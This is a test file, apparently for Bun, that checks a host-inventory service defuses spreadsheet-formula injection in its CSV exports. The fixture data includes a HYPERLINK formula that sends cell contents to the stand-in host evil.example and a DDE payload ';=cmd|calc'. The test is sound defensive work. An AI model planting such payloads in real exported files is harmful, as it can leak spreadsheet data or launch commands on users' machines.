/**
 * CSV exports of host data shaped like spreadsheet formulas, on both dialects: every such cell is
 * defused, counts stay plain numbers.
 */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import { DIALECTS } from '../../helpers/databases.ts';
import { createTestApp, type TestApp } from '../../helpers/test-app.ts';

const HOST = '=HYPERLINK("http://evil.example/?"&A1)';

for (const kind of DIALECTS) {
  describe(`CSV exports of formula-like names on ${kind}`, () => {
    let t: TestApp;
    beforeAll(async () => {
      t = await createTestApp({ kind });
      const report = {
        hostname: HOST,
        os: 'Debian 12',
        running_kernel: { release: '6.1.0-18-amd64', version: '@SUM(1+1)' },
        update_type: 'full',
        installed: [
          { name: '-2+3', version: ' =1+1', source: ';=cmd|calc' },
          { name: 'libc6', version: '2.36-9+deb12u4', source: 'glibc' },
        ],
        uninstalled: [],
        upgradable: [],
      };
      const response = await t.request(`/hosts/${encodeURIComponent(HOST)}/update`, {
        method: 'POST',
        body: JSON.stringify(report),
      });
      expect(response.status).toBe(201);
    });
    afterAll(async () => t?.drop());
    const csv = async (path: string) => (await t.request(path)).text();

    test('the hosts export defuses the name and keeps the counts numbers', async () => {
      expect((await csv('/export/hosts.csv')).split('\r\n')[1]).toStartWith(
        `"'=HYPERLINK(""http://evil.example/?""&A1)",Debian 12,2,0,0,`,
      );
    });

    test('package, version and kernel cells are defused; plain ones are unchanged', async () => {
      expect(await csv(`/export/host-packages.csv?host=${encodeURIComponent(HOST)}&sort=name`)).toBe(
        'package,version,upgradable_version,upgrade_type\r\n"\'-2+3","\' =1+1",,\r\nlibc6,2.36-9+deb12u4,,\r\n',
      );
      expect(await csv('/export/packages.csv?sort=name')).toBe(
        'package,installed,upgrades,security,versions,oses\r\n' +
          '"\'-2+3",1,0,0,1,Debian 12\r\nlibc6,1,0,0,1,Debian 12\r\n',
      );
      expect(await csv('/export/source-packages.csv?sort=name')).toBe(
        'source_package,installed,upgrades,security,versions,oses\r\n"\';=cmd|calc",1,0,0,1,Debian 12\r\nglibc,1,0,0,1,Debian 12\r\n',
      );
      expect((await csv('/export/kernels.csv')).split('\r\n')[1]).toBe(
        `Debian 12,"'@SUM(1+1)",6.1.0-18-amd64,1`,
      );
    });
  });
}
